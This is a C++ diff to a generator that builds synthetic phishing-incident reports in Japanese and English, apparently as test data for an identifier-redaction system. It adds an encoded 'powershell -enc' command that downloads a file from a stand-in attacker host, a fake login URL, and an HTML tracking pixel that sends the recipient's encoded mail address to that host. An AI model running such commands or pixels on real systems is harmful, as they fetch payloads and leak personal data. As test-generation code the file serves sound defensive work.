@@ -151,7 +151,7 @@ class ReportGenerator {
   std::string sentence() {
     const MadeMember& m = *member_;
     const bool ja = japanese_;
-    switch (random_.below(22)) {
+    switch (random_.below(34)) {
       case 0: return organisation() + (ja ? "から報告します。" : " reports the following.");
       case 1: return person_in_prose() + (ja ? "が不審なメールを開封しました。" : " opened the message.");
       case 2: return (ja ? "誘導先は " : "The link leads to ") + tracking_link() + (ja ? " です。" : " .");
@@ -222,6 +222,62 @@ class ReportGenerator {
         return (ja ? "アカウント " : "Account ") + put(account, account, Identifier::path_user, false) +
                (ja ? " が使われました。" : " was used.");
       }
+      case 24: {
+        // A name in a file's name, a firm's in the file's.
+        const MadePerson& who = insider();
+        if (!ja) return "Attached: " + indicator(word() + ".docm") + " .";
+        const std::string file = put(who.family, who.family, Identifier::person, false, "file name", is_known(who)) + "様_" +
+                                 put(m.short_name, m.short_name, Identifier::organisation, false, "file name") + "御中.docx";
+        return "添付「" + file + "」を開きました。";
+      }
+      case 25: {
+        // Kana of somebody whom the report has not named otherwise, with an honorific.
+        const MadePerson& who = pick(random_, m.people);
+        return ja ? put(random_.below(2) == 0 ? who.family_kana : half_width_kana_of(who.family_kana), who.family_kana, Identifier::person,
+                        false, "kana") +
+                        "さんが転送しました。"
+                  : put(who.family_latin, who.family_latin, Identifier::person, false) + "-san forwarded it.";
+      }
+      case 26: {
+        // Romaji of a known person, both orders, capitals as Japanese write them.
+        const MadePerson& who = pick(random_, m.people);
+        std::string family = who.family_latin;
+        for (char& c : family)
+          if (c >= 'a' && c <= 'z') c = static_cast<char>(c & ~0x20);
+        const std::string form = random_.below(2) == 0 ? family + " " + who.given_latin : who.given_latin + " " + family;
+        return (ja ? "署名は " : "Signed ") + put(form, form, Identifier::person, false, "romaji") + (ja ? " でした。" : ".");
+      }
+      case 27: {
+        const std::string department =
+            pick(random_, std::array<std::string, 4>{"生産技術部第二課", "海外営業本部", "知的財産部", "品質保証グループ"});
+        return ja ? put(department, department, Identifier::department, false) + "の端末です。"
+                  : "It went to the " + put("Procurement Department", "Procurement Department", Identifier::department, false) + ".";
+      }
+      case 28: {
+        const std::string shown = "hxxp://" + evil_ + "/" + percent_of(m.short_name) + "/login";
+        put(percent_of(m.short_name), m.short_name, Identifier::organisation, false, "percent");
+        out_.indicators.push_back(evil_);
+        return (ja ? "偽の画面は " : "The fake page is ") + shown + (ja ? " です。" : " .");
+      }
+      case 29: {
+        // A command line in UTF-16, as PowerShell wants it.
+        const std::string command =
+            "iwr http://" + evil_ + "/" + word() + " -o $env:TEMP\\a # " + m.english_short + " " + pick(random_, m.people).account;
+        const std::string block = utf16_base64_of(command);
+        return "powershell -enc " + put(block, m.english_short, Identifier::organisation, false, "utf-16 base64") + " ";
+      }
+      case 30: {
+        const std::string mobile = "090-" + number(4) + "-" + number(4);
+        return (ja ? "携帯は " : "Mobile: ") +
+               put(random_.below(2) == 0 ? full_width_of(mobile) : mobile, mobile, Identifier::phone, false) + (ja ? "。" : ".");
+      }
+      case 31: {
+        const std::string unc = "\\\\" + lower_of(m.host_prefix) + "nas.corp.local\\public\\" + word() + ".xlsx";
+        return (ja ? "保存先 " : "Saved to ") + put(unc, unc, Identifier::share_name, false) + " ";
+      }
+      case 21: return ja ? m.prefecture + "の工場でも同じメールを受信しました。" : "It reached our plant as well.";
+      case 22:
+        return ja ? "当社は従業員数" + std::to_string(m.employees) + "名です。" : "We have " + std::to_string(m.employees) + " employees.";
       default: {
         // An internationalised look of the member's name, as punycode.
         const std::string label = "xn--" + to_punycode(to_utf32(m.short_name));
@@ -318,7 +374,28 @@ class ReportGenerator {
     const std::string file = word() + ".txt";
     e += "--" + boundary + "\nContent-Type: text/plain; name=\"" + indicator(file) + "\"\nContent-Disposition: attachment; filename=\"" +
          file + "\"\n\n" + put(m.name, m.name, Identifier::decoy_text, true) + " 様向け資料\n";
+    if (random_.below(3) == 0) {
+      // A page with a link for this recipient alone, and text that nobody sees.
+      e += "--" + boundary + "\nContent-Type: text/html; charset=UTF-8\n\n<html><body><p>" + prose(2) + "</p><a href=\"" + tracking_link() +
+           "\">click</a><img src=\"https://" + evil_ + "/p.gif?e=";
+      const std::string digest = encode(random_, who.mail, 2).text;
+      e += put(digest, who.mail, Identifier::tracking_id, false, "encoded") + "\"><div style=\"display:none\">" +
+           put(m.name, m.name, Identifier::organisation, false, "hidden") + "</div></body></html>\n";
+    }
     e += "--" + boundary + "--\n";
+    if (random_.below(3) != 0) return;
+    // Passed on by the firm's own people, the attack inside as a message.
+    const MadePerson& from = insider();
+    std::string outer = "From: " + word_of(from.family + " " + from.given) + " <" +
+                        structured(from.mail, from.mail, Identifier::mail_address) + ">\nTo: report@hub.example\nSubject: " +
+                        structured(word_of(m.short_name + " 報告"), m.short_name, Identifier::organisation, "encoded word") +
+                        "\nDate: " + date + "\nReceived: from " + inner + " (" + inner + " [10.9.8.7]) by hub.example; " + date +
+                        "\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"outer_" + hex(8) + "\"\n\n";
+    const std::string mark = outer.substr(outer.rfind("outer_"), 14);
+    outer += "--" + mark + "\nContent-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n" + prose(3) + "\n" +
+             put(from.family, from.family, Identifier::person, false, "", is_known(from)) + "課長より\n";
+    outer += "--" + mark + "\nContent-Type: message/rfc822\n\n" + e + "\n--" + mark + "--\n";
+    e = std::move(outer);
   }
 
   static std::string quoted_lines(std::string_view text) {
